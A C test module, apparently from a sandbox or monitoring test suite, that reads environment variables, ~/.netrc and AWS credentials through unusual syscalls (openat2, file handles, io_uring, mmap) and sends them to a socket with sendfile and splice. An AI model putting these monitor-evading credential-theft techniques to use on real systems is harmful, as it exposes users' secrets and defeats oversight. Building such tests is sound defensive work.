/* Secrets in the environment and in files, by raw system calls. */
#include "../native.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char *at_home(const char *name)
{
	static char path[2048];

	snprintf(path, sizeof path, "%s/%s", target("home"), name);
	return path;
}

static size_t environment(char *text, size_t size)
{
	size_t used = 0;

	for (char **p = environ; p != NULL && *p != NULL && used + strlen(*p) + 2 < size; p++) {
		used += (size_t)snprintf(text + used, size - used, "%s\n", *p);
	}
	return used;
}

static char copied[131072];
static size_t copied_size;

/* Runs when the program or the library is loaded: memory is read, nothing is called. */
__attribute__((constructor)) static void copy_environment(void)
{
	copied_size = environment(copied, sizeof copied);
}

ACT(environ_copied)
{
	loot(copied, copied_size);
	return 0;
}

ACT(environ_printed)
{
	static char text[131072];

	loot(text, environment(text, sizeof text));
	return 0;
}

ACT(openat2_home)
{
	struct open_how how = {.flags = O_RDONLY | O_CLOEXEC, .resolve = RESOLVE_NO_SYMLINKS};
	int fd = (int)syscall(SYS_openat2, AT_FDCWD, at_home(".netrc"), &how, sizeof how);

	if (fd >= 0) {
		loot_fd(fd);
	}
	/* The home as the root of the walk. */
	int home = (int)syscall(SYS_openat, AT_FDCWD, target("home"), O_PATH | O_DIRECTORY | O_CLOEXEC);
	how.resolve = RESOLVE_IN_ROOT;
	fd = (int)syscall(SYS_openat2, home, "/.aws/credentials", &how, sizeof how);
	if (fd >= 0) {
		loot_fd(fd);
	} else {
		say("openat2: %s", strerror(errno));
	}
	return 0;
}

ACT(by_handle)
{
	struct {
		struct file_handle head;
		unsigned char bytes[MAX_HANDLE_SZ];
	} handle = {.head.handle_bytes = MAX_HANDLE_SZ};
	int mount_id;

	if (syscall(SYS_name_to_handle_at, AT_FDCWD, at_home(".netrc"), &handle, &mount_id, 0) != 0) {
		say("name_to_handle_at: %s", strerror(errno));
	}
	int mount = (int)syscall(SYS_openat, AT_FDCWD, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int fd = (int)syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY);
	if (fd < 0) {
		say("open_by_handle_at: %s", strerror(errno));
		return 0;
	}
	loot_fd(fd);
	return 0;
}

struct ring {
	int fd;
	char *sq, *cq;
	struct io_uring_params p;
	struct io_uring_sqe *entries;
};

static int ring_call(struct ring *r, struct io_uring_sqe wanted)
{
	unsigned *tail = (unsigned *)(r->sq + r->p.sq_off.tail), *head = (unsigned *)(r->cq + r->p.cq_off.head);
	unsigned slot = *tail & *(unsigned *)(r->sq + r->p.sq_off.ring_mask);

	r->entries[slot] = wanted;
	((unsigned *)(r->sq + r->p.sq_off.array))[slot] = slot;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
		return -errno;
	}
	struct io_uring_cqe *done = (struct io_uring_cqe *)(r->cq + r->p.cq_off.cqes);
	int result = done[*head & *(unsigned *)(r->cq + r->p.cq_off.ring_mask)].res;
	__atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
	return result;
}

ACT(io_uring_read)
{
	static char text[4096];
	struct ring r = {.fd = (int)syscall(SYS_io_uring_setup, 4, &r.p)};

	if (r.fd < 0) {
		say("io_uring_setup: %s", strerror(errno));
		return 0;
	}
	r.sq = mmap(NULL, r.p.sq_off.array + r.p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE, MAP_SHARED, r.fd, IORING_OFF_SQ_RING);
	r.cq = mmap(NULL, r.p.cq_off.cqes + r.p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, r.fd, IORING_OFF_CQ_RING);
	r.entries = mmap(NULL, r.p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED, r.fd, IORING_OFF_SQES);
	int fd = ring_call(&r, (struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)at_home(".aws/credentials")});
	int got = fd < 0 ? fd : ring_call(&r, (struct io_uring_sqe){.opcode = IORING_OP_READ, .fd = fd, .addr = (uintptr_t)text, .len = sizeof text});
	if (got > 0) {
		loot(text, (size_t)got);
	} else {
		say("io_uring: %s", strerror(-got));
	}
	return 0;
}

static void *map_it(void *arg)
{
	int fd = *(int *)arg;
	struct stat st;
	char *text = fstat(fd, &st) == 0 && st.st_size > 0 ? mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0) : MAP_FAILED;

	if (text != MAP_FAILED) {
		loot(text, (size_t)st.st_size);
	}
	return NULL;
}

/* What a file holds goes to a socket without a read(); 0 where it cannot be opened. */
ACT(without_read)
{
	int fd = (int)syscall(SYS_openat, AT_FDCWD, at_home(".netrc"), O_RDONLY | O_CLOEXEC), s = connected(), ends[2];
	pthread_t thread;

	if (fd < 0) {
		say("open: %s", strerror(errno));
		return 0;
	}
	pthread_create(&thread, NULL, map_it, &fd);
	pthread_join(thread, NULL);
	if (s >= 0) {
		sendfile(s, fd, &(off_t){0}, 4096);
		close(s);
	}
	s = connected();
	if (s >= 0 && pipe(ends) == 0) {
		ssize_t n = splice(fd, &(off_t){0}, ends[1], NULL, 4096, 0);
		splice(ends[0], NULL, s, NULL, n > 0 ? (size_t)n : 0, 0);
		close(s);
	}
	int copy = open("copy", O_RDWR | O_CREAT | O_TRUNC, 0600);
	if (copy >= 0 && copy_file_range(fd, &(off_t){0}, copy, NULL, 4096, 0) > 0) {
		lseek(copy, 0, SEEK_SET);
		loot_fd(copy);
	}
	return 0;
}
